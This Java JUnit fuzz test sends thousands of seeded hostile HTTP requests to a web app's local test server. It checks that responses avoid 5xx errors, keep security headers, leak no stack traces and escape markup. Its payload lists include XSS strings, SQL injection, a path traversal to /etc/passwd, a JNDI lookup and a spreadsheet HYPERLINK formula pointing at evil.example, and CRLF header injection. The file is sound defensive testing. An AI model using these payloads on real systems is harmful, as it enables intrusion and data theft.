package org.occucompare.web.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.javalin.http.HandlerType;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.occucompare.web.RawHttp;
import org.occucompare.web.TestServer;
import org.occucompare.web.security.SecurityHeaders;

/**
 * A bounded, deterministic fuzz of every route of the app: a few thousand generated requests with random and hostile
 * paths, parameters, escapes, long values, odd methods, versions and headers, markup and script payloads, sent byte
 * for byte. Every response must be below 500 (a 505 only for a version other than HTTP/1.x), carry the security
 * headers, show no stack trace or exception class name, never repeat markup unescaped in a page or an SVG, and answer
 * JSON errors under {@code /api}. The seed and the request count can be set with {@code -Doccucompare.fuzz.seed} and
 * {@code -Doccucompare.fuzz.requests}; a failure prints the seed and the requests that failed, so a run can be
 * repeated exactly.
 */
class RouteFuzzTest {
    private static final long SEED = Long.getLong("occucompare.fuzz.seed", 20_261_205L);
    private static final int REQUESTS = Integer.getInteger("occucompare.fuzz.requests", 3_000);
    private static final int SHOWN = 25;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern TRACE = Pattern.compile("\\tat |Caused by: |\\b(?:java|javax|jakarta|org|io|com|"
            + "kotlin)\\.[a-z]\\w*(?:\\.\\w+)*\\.[A-Z]\\w*(?:Exception|Error)\\b|\\b\\w+(?:Exception|Error): ");
    private static final List<String> MARKUP = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "</title><svg onload=alert(1)>", "<XSS>", "<iframe src=javascript:alert(1)>", "'><b>bold</b>");
    private static final List<String> CODES = List.of("29-1141.00", "15-1252.00", "11-1011.00", "29-2061.00",
            "15-1211.00", "29-1199.00", "99-9999.99", "Registered Nurses", "nurse", "29-11", "291141");
    private static final List<String> PLACES = List.of("US", "CA", "TX", "California", "06", "Chicago, IL", "60601",
            "area:35620", "0", "ZZ", "Atlantis");
    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/\",\"x\")", "@SUM(A1)",
            "+1+1", "-1", "' OR 1=1 --", "'; drop table occupation; --", "%", "_", "\\", "../../etc/passwd",
            "${jndi:ldap://evil.example/x}", "{{7*7}}", "#{7*7}", "%s%n%x", "\u202etxt.exe", "\u200b", "é", "😀",
            "\u0000", "\r\nX-Injected: 1", "NaN", "Infinity", "1e309", "-0", "0x10", "9999999999999999999", " 5 ",
            ",,,,,", "null", "undefined", "[]", "{}", "true");
    private static final List<String> ESCAPES = List.of("%zz", "%", "%0", "%00", "%C3%28", "%E2%82", "%FF", "%u0041",
            "%2525", "%0d%0a", "%3Cscript%3E", "%2e%2e%2f", "%ZZ%zz", "%%", "%C0%AF");
    private static final List<String> PARAMETERS = List.of("q", "limit", "occupations", "locations", "location",
            "reference", "scale", "metrics", "format", "kind", "code", "callback", "__proto__", "q[]", "");
    private static final List<String> METHODS = List.of("POST", "PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "HEAD",
            "BREW", "get", "PROPFIND", "CONNECT");
    private static final List<String> HEADERS = List.of("Accept: application/json", "Accept: text/html",
            "Accept: */*", "Accept: image/webp;q=0.9, <script>", "Accept-Encoding: gzip, deflate, br",
            "Accept-Language: xx;q=2", "Accept-Charset: utf-7", "X-HTTP-Method-Override: DELETE",
            "X-HTTP-Method: PUT", "X-Method-Override: GET", "Cookie: session=<script>alert(1)</script>",
            "Referer: javascript:alert(1)", "User-Agent: <script>alert(1)</script>", "Range: bytes=0-1,5-",
            "If-None-Match: *", "If-Modified-Since: yesterday", "X-Forwarded-For: 127.0.0.1, <x>",
            "X-Forwarded-Host: evil.example", "Origin: http://evil.example", "Content-Type: text/xml; charset=x",
            "Expect: 100-continue", "Expect: 100-nonsense", "Host: evil.example", "Upgrade: websocket",
            "Connection: Upgrade, HTTP2-Settings", "X-Padding: " + "p".repeat(10_000),
            "Content-Length: 5", "Transfer-Encoding: gzip");

    private static TestServer server;
    private static List<String> routes;

    @BeforeAll
    static void start() {
        server = TestServer.start();
        Set<String> paths = new TreeSet<>();
        // the app's own routing table: test-only use of Javalin's internal router
        server.app().unsafe.internalRouter.allHttpHandlers().stream().map(p -> p.endpoint)
                .filter(e -> e.method == HandlerType.GET).forEach(e -> paths.add(e.path));
        routes = List.copyOf(paths);
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @Test
    void every_route_answers_hostile_requests_without_a_5xx_a_trace_or_unescaped_markup() {
        Random random = new Random(SEED);
        Map<Integer, Integer> statuses = new TreeMap<>();
        Set<String> routesHit = new TreeSet<>();
        List<String> failures = new ArrayList<>();
        int failed = 0;
        long started = System.nanoTime();
        for (int i = 0; i < REQUESTS; i++) {
            Fuzzed request = generate(random);
            routesHit.add(request.route());
            try {
                RawHttp.Response response = RawHttp.exchange(server.baseUri().getPort(), request.bytes());
                statuses.merge(response.status(), 1, Integer::sum);
                String problem = problem(request, response);
                if (problem != null && failed++ < SHOWN) {
                    failures.add("#" + i + " " + problem + ": " + request.describe() + " -> " + response.status()
                            + " " + response.mediaType() + " " + excerpt(response.body()));
                }
            } catch (IOException e) {
                if (failed++ < SHOWN) {
                    failures.add("#" + i + " no HTTP answer (" + e.getMessage() + "): " + request.describe());
                }
            }
        }
        double seconds = (System.nanoTime() - started) / 1e9;
        System.out.printf(Locale.ROOT, "Route fuzz: %d requests over %d routes in %.1f s (seed %d); statuses %s%n",
                REQUESTS, routes.size(), seconds, SEED, statuses);

        assertThat(failures).as("route fuzz, seed %d (repeat with -Doccucompare.fuzz.seed=%d): %d of %d requests"
                + " failed; the first ones", SEED, SEED, failed, REQUESTS).isEqualTo(List.of());
        assertThat(routesHit).as("every route is fuzzed").containsAll(routes);
    }

    @Test
    void the_checks_catch_each_way_a_response_can_break_the_contract() {
        Fuzzed api = new Fuzzed("/api/health", "GET", "/api/health?q=x", "HTTP/1.1", List.of(), new byte[0], false,
                false);
        Fuzzed page = new Fuzzed("/search", "GET", "/search?q=x", "HTTP/1.1", List.of(), new byte[0], false, false);
        List<String[]> secure = new ArrayList<>();
        SecurityHeaders.HEADERS.forEach((name, value) -> secure.add(new String[] {name, value}));
        List<String[]> json = new ArrayList<>(secure);
        json.add(new String[] {"Content-Type", "application/json"});
        List<String[]> html = new ArrayList<>(secure);
        html.add(new String[] {"Content-Type", "text/html;charset=utf-8"});
        String error = "{\"error\":{\"code\":\"NOT_FOUND\",\"message\":\"Check the address.\"}}";

        assertThat(problem(api, new RawHttp.Response(404, json, error))).isNull();
        assertThat(problem(api, new RawHttp.Response(500, json, error))).isEqualTo("a 5xx");
        assertThat(problem(api, new RawHttp.Response(404, json.subList(1, json.size()), error))).startsWith("no ");
        assertThat(problem(api, new RawHttp.Response(404, html, "<p>Not found</p>")))
                .isEqualTo("an error under /api that is not JSON");
        assertThat(problem(api, new RawHttp.Response(400, json, "{\"error\":{}}")))
                .isEqualTo("an /api error without code and message");
        assertThat(problem(page, new RawHttp.Response(400, html, "<p>java.lang.IllegalStateException</p>")))
                .isEqualTo("a stack trace or exception name in the body");
        assertThat(problem(page, new RawHttp.Response(400, html, "\tat org.example.Foo.bar(Foo.java:1)")))
                .isEqualTo("a stack trace or exception name in the body");
        assertThat(problem(page, new RawHttp.Response(200, html, "<p>You asked for <XSS></p>")))
                .isEqualTo("markup repeated unescaped");
        assertThat(problem(page, new RawHttp.Response(200, html, "<p>You asked for &lt;XSS&gt;</p>"))).isNull();
    }

    /** What is wrong with the response, or null when it keeps the contract. */
    private static String problem(Fuzzed request, RawHttp.Response response) {
        int status = response.status();
        if (status >= 500 && !(status == 505 && request.oddVersion())) {
            return "a 5xx";
        }
        for (Map.Entry<String, String> header : SecurityHeaders.HEADERS.entrySet()) {
            if (!response.header(header.getKey()).filter(header.getValue()::equals).isPresent()) {
                return "no " + header.getKey() + " header";
            }
        }
        String body = response.body();
        if (TRACE.matcher(body).find()) {
            return "a stack trace or exception name in the body";
        }
        String type = response.mediaType();
        if (type.equals("text/html") || type.contains("svg")) {
            for (String markup : MARKUP) {
                if (body.contains(markup)) {
                    return "markup repeated unescaped";
                }
            }
        }
        if (status >= 400 && request.api() && !body.isEmpty()) {
            if (!type.equals("application/json")) {
                return request.lineMangled() && type.equals("text/html") && body.contains("id=\"error-message\"")
                        ? null : "an error under /api that is not JSON";
            }
            try {
                JsonNode error = JSON.readTree(body).get("error");
                if (error == null || error.path("code").asText().isEmpty()
                        || error.path("message").asText().isEmpty()) {
                    return "an /api error without code and message";
                }
            } catch (IOException e) {
                return "an /api error that is not valid JSON";
            }
        }
        return null;
    }

    private static Fuzzed generate(Random random) {
        String route = pick(random, routes);
        boolean lineMangled = false;
        boolean oddVersion = false;
        StringBuilder path = new StringBuilder();
        for (String segment : route.split("(?=[/.])")) {
            if (segment.contains("{")) {
                String separator = segment.substring(0, 1);
                String name = segment.substring(2, segment.length() - 1);
                path.append(separator).append(pathValue(random, name));
            } else {
                path.append(segment);
            }
        }
        int mutation = random.nextInt(20);
        switch (mutation) {
            case 0 -> {
                path.append('/').append(pick(random, ESCAPES));
                lineMangled = true;
            }
            case 1 -> {
                char control = (char) random.nextInt(32);
                path.append("/x").append(control).append('y');
                lineMangled = true;
                // a line break ends the request line early: a request without a version, as in HTTP/0.9
                oddVersion = control == '\n' || control == '\r';
            }
            case 2 -> {
                path.append("/").append("a".repeat(9_000 + random.nextInt(3_000)));
                lineMangled = true;
            }
            case 3 -> {
                path.append(pick(random, List.of("/", "//", "/./", "/../", "/..;/", ";jsessionid=1", "/%2e%2e/",
                        "%2f", "/%5c", "/.%2e/", "#frag")));
                lineMangled = true;
            }
            case 4 -> path.append(encode(pick(random, MARKUP)));
            default -> {
                // the route as it is
            }
        }
        // Jetty cannot read a path that holds an escaped NUL
        lineMangled |= path.indexOf("%00") >= 0;
        StringBuilder query = new StringBuilder();
        int parameters = random.nextInt(5);
        for (int p = 0; p < parameters; p++) {
            String name = pick(random, PARAMETERS);
            query.append(p == 0 ? "?" : "&").append(encode(name)).append('=').append(queryValue(random, name));
        }
        if (random.nextInt(25) == 0) {
            query.append(query.length() == 0 ? "?" : "&").append("q=").append("n".repeat(5_000));
        }
        String method = random.nextInt(10) < 7 ? "GET" : pick(random, METHODS);
        // CONNECT names a host and port, not a path: the server cannot read its target as one
        lineMangled |= method.equals("CONNECT");
        String version = "HTTP/1.1";
        if (random.nextInt(40) == 0) {
            version = pick(random, List.of("HTTP/1.0", "HTTP/2.0", "HTTP/3.0", "HTTP/1.2", "HTTP/0.9", "HTTPS/1.1",
                    "http/1.1", "HTTP/1.1 extra"));
            oddVersion |= !version.equals("HTTP/1.0");
            lineMangled |= oddVersion;
        }
        List<String> headers = new ArrayList<>();
        int extra = random.nextInt(4);
        for (int h = 0; h < extra; h++) {
            headers.add(pick(random, HEADERS));
        }
        byte[] body = new byte[0];
        if (!method.equals("GET") && !method.equals("HEAD") && random.nextBoolean()) {
            body = pick(random, List.of("a=1&b=<script>", "{\"q\":\"nurse\"}", "=1+1", "x".repeat(2_000)))
                    .getBytes(StandardCharsets.UTF_8);
        }
        return new Fuzzed(route, method, path + query.toString(), version, headers, body, lineMangled, oddVersion);
    }

    private static String pathValue(Random random, String name) {
        return switch (random.nextInt(4)) {
            case 0 -> switch (name) {
                case "kind" -> pick(random, List.of("wages", "locations", "growth", "skills"));
                case "format" -> pick(random, List.of("png", "svg", "pdf"));
                default -> pick(random, CODES).replace(" ", "%20");
            };
            case 1 -> encode(pick(random, HOSTILE));
            case 2 -> encode(pick(random, MARKUP));
            default -> encode(pick(random, CODES)) + (random.nextBoolean() ? pick(random, List.of("x", ".00", "-",
                    "%20", "%2F", "%25")) : "");
        };
    }

    private static String queryValue(Random random, String name) {
        return switch (random.nextInt(6)) {
            case 0 -> encode(switch (name) {
                case "occupations" -> String.join(",", pick(random, CODES), pick(random, CODES),
                        random.nextBoolean() ? pick(random, CODES) : "");
                case "locations", "location" -> pick(random, PLACES) + (random.nextBoolean() ? ","
                        + pick(random, PLACES) : "");
                case "limit" -> String.valueOf(random.nextInt(120) - 10);
                case "scale" -> String.valueOf(random.nextDouble() * 6);
                default -> pick(random, CODES);
            });
            case 1 -> encode(pick(random, HOSTILE));
            case 2 -> encode(pick(random, MARKUP));
            case 3 -> pick(random, ESCAPES);
            case 4 -> encode(String.join(",", java.util.Collections.nCopies(1 + random.nextInt(60),
                    pick(random, CODES))));
            default -> encode(pick(random, CODES)) + pick(random, ESCAPES);
        };
    }

    /** Percent-encodes everything but unreserved characters, as a careful client would. */
    private static String encode(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xff);
            if (c < 128 && (Character.isLetterOrDigit(c) || "-._~,".indexOf(c) >= 0)) {
                out.append(c);
            } else {
                out.append('%').append(String.format(Locale.ROOT, "%02X", b & 0xff));
            }
        }
        return out.toString();
    }

    private static <T> T pick(Random random, List<T> items) {
        return items.get(random.nextInt(items.size()));
    }

    private static String excerpt(String body) {
        String flat = body.replaceAll("\\s+", " ");
        return flat.length() <= 300 ? flat : flat.substring(0, 300) + "…";
    }

    /** One generated request. */
    private record Fuzzed(String route, String method, String target, String version, List<String> headers,
            byte[] body, boolean lineMangled, boolean oddVersion) {

        boolean api() {
            String path = target.split("[?#]")[0];
            return !lineMangled && (path.equals("/api") || path.startsWith("/api/"));
        }

        byte[] bytes() {
            StringBuilder head = new StringBuilder(method).append(' ').append(target).append(' ').append(version)
                    .append("\r\nHost: 127.0.0.1\r\nConnection: close\r\n");
            boolean hasLength = false;
            for (String header : headers) {
                if (header.startsWith("Content-Length") || header.startsWith("Transfer-Encoding")) {
                    continue;
                }
                head.append(header).append("\r\n");
            }
            if (body.length > 0 || headers.stream().anyMatch(h -> h.startsWith("Content-Length"))) {
                head.append("Content-Length: ").append(body.length).append("\r\n");
                hasLength = true;
            }
            byte[] start = head.append("\r\n").toString().getBytes(StandardCharsets.UTF_8);
            byte[] all = java.util.Arrays.copyOf(start, start.length + (hasLength ? body.length : 0));
            System.arraycopy(body, 0, all, start.length, hasLength ? body.length : 0);
            return all;
        }

        String describe() {
            String shown = target.length() <= 200 ? target : target.substring(0, 200) + "…(" + target.length()
                    + " chars)";
            return method + " " + shown + " " + version + " " + headers.stream()
                    .map(h -> h.length() <= 80 ? h : h.substring(0, 80) + "…").toList()
                    + (body.length > 0 ? " body " + body.length + " bytes" : "");
        }
    }
}
